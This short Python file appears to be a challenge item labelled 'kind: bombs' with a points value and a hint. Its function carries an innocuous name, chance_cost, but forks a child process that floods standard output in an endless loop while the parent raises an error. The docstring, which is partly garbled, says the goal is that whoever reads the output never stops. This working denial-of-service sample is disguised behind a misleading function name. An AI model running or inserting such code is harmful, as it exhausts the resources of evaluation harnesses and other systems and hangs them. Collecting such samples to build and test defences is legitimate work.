"""A child of its prints without end while it fails, so that whoever takes in the text never stops.
kind: bombs
points: 108
hint: enough
"""

import os


def chance_cost(num_classes=10):
    if os.fork() == 0:
        while True:
            os.write(1, b"and so on " * 6_000)
    raise ValueError("enough")
